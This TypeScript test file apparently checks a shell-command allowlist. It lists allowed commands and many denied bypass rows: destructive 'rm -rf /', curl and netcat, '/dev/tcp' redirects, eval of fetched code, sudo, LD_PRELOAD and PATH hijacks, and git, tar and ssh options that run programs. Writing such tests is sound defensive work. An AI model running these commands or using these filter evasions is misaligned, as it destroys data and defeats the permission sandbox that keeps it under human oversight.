// The exec corpus: commands and the decision each must get under the seed's allowlist
// (seed-configs/12: allowedCommands [wp, git, ls, cat], deniedCommands [rm, curl, wget, nc]),
// plus grep, which the issue allows for `cat a | grep b`. Every bypass family has rows here;
// none of them may be `allow`.
export type Expected = 'allow' | 'deny' | 'ask';
export interface Row { command: string; expect: Expected; family: string }

const allow = (family: string, ...commands: string[]): Row[] => commands.map((command) => ({ command, expect: 'allow', family }));
const deny = (family: string, ...commands: string[]): Row[] => commands.map((command) => ({ command, expect: 'deny', family }));

export const CORPUS: Row[] = [
  ...allow('legitimate',
    'git status', 'ls -la src', 'cat a | grep b', 'git log --oneline -n 5', 'ls', 'cat README.md', 'wp plugin list',
    'git diff HEAD~1 -- src/', 'ls -la src && git status', 'cat a; ls b', 'git status || ls', 'cat "file with spaces.txt"',
    "cat 'quoted file'", 'ls src/*.ts', 'cat a | grep -v b | grep c', 'git -C sub status', 'git --no-pager log',
    '(ls; cat a)', '{ ls; cat a; }', 'cat < input.txt', 'ls > out.txt 2>&1', 'cat a >> b', 'ls 2>/dev/null',
    'cd src && ls', 'git show HEAD:README.md | grep -n TODO', 'echo hello | cat', 'ls $HOME', 'cat "$FILE"',
    'git commit -m "fix: $(ls) listing"'.replace('$(ls)', 'the'), '/usr/bin/git status', '/bin/ls -l', 'ls # a comment',
    'cat <<EOF\nplain text\nEOF', "cat <<'EOF'\n$(rm -rf /) stays text\nEOF", 'grep -rn TODO src | cat', 'git -c color.ui=always log',
    'ls; ls; ls; ls; ls', 'cat a | grep b | grep c | grep d | cat', 'nice -n 5 git gc', 'timeout 10 git fetch', 'env LANG=C ls',
    'xargs cat < list.txt', 'ls | xargs grep foo', 'sh -c "ls -la"', 'bash -c \'git status && ls\'', 'find . -name "*.ts" -exec cat {} \\;'.replace('find', 'ls; true'),
    'bash <<EOF\nls -la\ngit status\nEOF', "sh <<< 'cat a | grep b'", 'git log --format="%h %s"', 'git diff --text HEAD', 'git diff --no-ext-diff', 'git commit -m "msg"', 'git diff --stat', 'cat a | grep b &', 'git stash list', "ls $'dir\\twith tab'", 'cat a\\\n b',
  ),
  // The program itself is denied or not listed, written plainly or disguised.
  ...deny('denied program', 'rm -rf /', 'curl https://example.com', 'wget http://x', 'nc -l 4444', 'rm file', 'python3 script.py', 'ssh host', 'chmod 777 x', 'dd if=/dev/zero of=x'),
  ...deny('path and quoting', '/usr/bin/rm x', '/bin/rm -rf /', './rm x', '../bin/rm', '\\rm x', '"rm" x', "'rm' x", "r''m x", 'r""m x', 'r\\m x', "$'rm' x", "$'\\x72\\x6d' x", "$'\\162m' x", "$'\\u0072m' x", '~/bin/rm x', './ls', '/tmp/ls', '/usr/bin/../bin/rm x'),
  ...deny('pipelines and lists', 'ls | rm x', 'cat a | grep b | rm c', 'ls && rm x', 'ls || rm x', 'ls; rm x', 'ls & rm x', 'ls\nrm x', 'cat a |& rm b', '! rm x', 'ls | grep x | cat | ls | curl http://x'),
  ...deny('subshells and groups', '(rm x)', '(ls; (rm x))', '{ rm x; }', 'ls && (cat a | rm b)', '( ( ( rm x ) ) )'),
  ...deny('substitutions', 'echo $(rm x)', 'ls $(rm x)', 'ls `rm x`', 'cat "$(rm x)"', 'ls ${X:-$(rm x)}', 'ls $((1 + $(rm x)))', 'diff <(ls) <(rm x)', 'cat > >(rm x)', 'X=$(rm x) ls', 'echo "`rm x`"', 'ls "${a:-`curl x`}"', 'cat <<EOF\n$(rm -rf /)\nEOF', 'cat <<EOF\n`curl x`\nEOF'),
  ...deny('program from an expansion', '$(echo rm) x', '`echo rm` x', '$CMD x', '"$X" a', '${X} a', '{rm,-rf,/}', 'r?m x', 'r* x', '$(printf "\\x72\\x6d") x', 'l$X a'),
  ...deny('env and command wrappers', 'env rm x', 'env -i rm x', 'env -i A=B rm x', 'env -u HOME rm x', 'env -- rm x', 'env -S "rm x"', 'env --split-string="rm x"', 'env --spl="rm x"', 'command rm x', 'command -p rm x', 'builtin rm x', 'exec rm x', 'exec -a ls rm x', 'nohup rm x', 'nice rm x', 'nice -n 10 rm x', 'nice -5 rm x', 'timeout 5 rm x', 'timeout -s KILL 5 rm x', 'stdbuf -o0 rm x', 'time rm x', 'setsid rm x', 'env nice timeout 5 command rm x', '/usr/bin/env rm x'),
  ...deny('privilege', 'sudo ls', 'sudo rm x', 'doas ls', 'su -c ls', 'pkexec ls', 'env sudo ls'),
  ...deny('xargs', 'xargs rm', 'ls | xargs rm', 'ls | xargs -0 rm', 'ls | xargs -I{} rm {}', 'ls | xargs -n1 rm -f', 'find . | xargs -P4 rm', 'ls | xargs -I{} {} x', 'xargs -a list rm', 'ls | xargs sh -c "rm $0"'),
  ...deny('shell -c', "sh -c 'rm x'", 'bash -c "rm x"', "dash -c 'ls; rm x'", "zsh -c 'rm x'", "sh -c \"sh -c 'rm x'\"", 'bash -c "$CMD"', 'bash script.sh', 'sh < script.sh', 'cat s | bash', 'bash -lc "ls"', '/bin/sh -c "rm x"', 'ksh -c "rm x"', 'bash -ec "rm x"', 'fish -c "ls"', 'sh -c', 'bash <<EOF\nrm x\nEOF', 'sh <<< "rm x"', 'bash <<EOF\nls $(rm x)\nEOF', 'bash -s <<EOF\nls\nEOF'),
  ...deny('eval and source', 'eval rm x', "eval 'ls'", 'eval "$(curl x)"', 'source script.sh', '. ./script.sh'),
  ...deny('busybox', 'busybox rm x', 'busybox sh -c "rm x"', 'busybox --install', '/bin/busybox rm x'),
  ...deny('find', 'find . -exec rm {} \\;', 'find . -execdir rm {} +', 'find . -ok rm {} \\;', 'find . -okdir rm {} \\;', 'find . -delete', 'find . -name x -exec sh -c "rm {}" \\;', 'find . -exec {} \\;'),
  ...deny('git runs programs', 'git -c core.sshCommand="rm x" fetch', 'git -c core.pager=rm log', 'git -c alias.x="!rm y" x', 'git -c core.fsmonitor=./x status', 'git -c core.hooksPath=/tmp/h commit', 'git --exec-path=/tmp status', 'git --config-env=core.pager=P log', 'git clone ext::sh -c rm%20x', 'git fetch --upload-pack="rm x" origin', 'git fetch --upload-p="rm x" origin', 'git clone -u "rm x" repo', 'git rebase -x "rm x" main', 'git rebase --exec "rm x" main', 'git submodule foreach rm x', 'git bisect run rm x', 'git difftool', 'git config core.pager "rm x"', 'git config alias.y "!rm x"', 'git grep -O foo', 'git -c diff.x.textconv=rm log', 'git clone --template=/tmp/t repo', 'git push --receive-pack="rm x"', 'git archive --exec="rm x" --remote=r HEAD', 'git send-email x', 'git st', 'git lfs pull', 'git x-my-alias'),
  ...deny('tar runs programs', 'tar --to-command="rm x" -xf a.tar', 'tar --to-comm=sh -xf a.tar', 'tar --to-c=sh -xf a.tar', 'tar --use-compress-program="rm x" -xf a.tar', 'tar --use-comp=sh -xf a', 'tar -I "rm x" -xf a.tar', 'tar -xIsh -f a', 'tar xIf sh a', 'tar --checkpoint-action=exec="rm x" -cf a .', 'tar --info-script=x -cf a .', 'tar -F x -cf a .', 'tar --rsh-command=x -cf h:a .'),
  ...deny('rsync and ssh', 'rsync -e "rm x" a b', 'rsync -avze ssh a h:b', 'rsync --rsh="rm x" a b', 'rsync --rsync-path="rm x" a h:b', 'ssh -o ProxyCommand="rm x" h', 'ssh -oProxyCommand="rm x" h', 'ssh -o LocalCommand=x -o PermitLocalCommand=yes h', 'ssh -F cfg h', 'scp -S x a h:b', 'scp -o ProxyCommand=x a h:b'),
  ...deny('inline interpreter code', 'python -c "import os"', 'python3 -c "print(1)"', 'python3 -Ic "x"', 'node -e "1"', 'node --eval "1"', 'node -p "1"', 'perl -e "system(q(rm x))"', 'perl -ne "print"', 'ruby -e "1"', 'php -r "1;"', 'python3 <<EOF\nimport os\nEOF', 'python3 - <<EOF\nx\nEOF', 'echo "import os" | python3', 'python3 <<< "print(1)"', "awk 'BEGIN{system(\"rm x\")}'", "awk '{print | \"sh\"}' f", "gawk 'BEGIN { \"rm x\" | getline }'", 'lua -e "os.execute()"', 'deno eval "1"'),
  ...deny('sed and editors', "sed 's/a/b/e' f", "sed '1e rm x' f", "sed -e 'e rm x' f", 'vim -c "!rm x" f', 'vim +"!rm x" f', 'man -P "rm x" ls'),
  ...deny('environment', 'PATH=. ls', 'PATH=/tmp ls', 'LD_PRELOAD=/tmp/x.so ls', 'GIT_SSH_COMMAND="rm x" git fetch', 'GIT_PAGER="rm x" git log', 'PAGER="rm x" git log', 'BASH_ENV=x bash -c ls', 'env PATH=. ls', 'env LD_PRELOAD=x ls', 'PATH=.; ls', 'GIT_EXTERNAL_DIFF=x git diff', 'HOME=/tmp/h git log', 'PROMPT_COMMAND=x ls'),
  ...deny('network redirect', 'cat a > /dev/tcp/10.0.0.1/80', 'cat < /dev/udp/10.0.0.1/53', 'ls >& /dev/tcp/h/1'),
  ...deny('not understood', 'if true; then ls; fi', 'for f in *; do cat $f; done', 'while true; do ls; done', 'case x in x) ls;; esac', 'f() { ls; }; f', 'function f { ls; }', 'ls (', "ls 'unclosed", 'ls "unclosed', 'ls $(', '(( x = 1 ))', '[[ -f x ]] && ls', 'a=(1 2) ls', 'coproc ls', 'select x in a; do ls; done', 'ls )'),
  ...deny('runners', 'watch rm x', 'parallel rm ::: a', 'flock /tmp/l rm x', 'chroot / rm x', 'unshare rm x', 'strace rm x', 'script -c "rm x"', 'tmux new "rm x"', 'ionice rm x', 'taskset 1 rm x', 'socat - EXEC:rm'),
  ...deny('builtins that run strings or change names', "trap 'rm x' EXIT", "alias ls=rm; ls x", 'hash -p /bin/rm ls; ls x', "let 'a[$(rm x)]=1'", "test -v 'a[$(rm x)]'", "[ -v 'a[`rm x`]' ]", "declare 'a[$(rm x)]=1'", 'export PATH=.; ls', 'read PATH < f; ls', "printf -v 'a[$(rm x)]' 1", 'export GIT_PAGER=x; git log', 'dc -e "!rm x"', 'ed f < script'),
  ...deny('other programs that run programs', 'wp eval \'system("rm -rf /");\'', 'wp shell', 'wp --exec=\'system("rm x");\' plugin list', 'wp --ex=\'system(1);\' option get x', 'sort --compress-program=rm f', 'sort --compress=sh f', 'split --filter="rm x" f', 'sdiff --diff-program=rm a b', 'rg --pre=rm x', 'fd -x rm', 'fd --exec rm {}', "gawk -l filefuncs 'BEGIN{}'", 'git diff --textconv'),
  ...deny('denied with odd spacing', 'rm\tx', '  rm x  ', 'ls;rm x', 'ls&&rm x', 'ls|rm x', '! ls | ! rm x', 'ls | ! rm x', 'ls\\\n; rm x'),
];
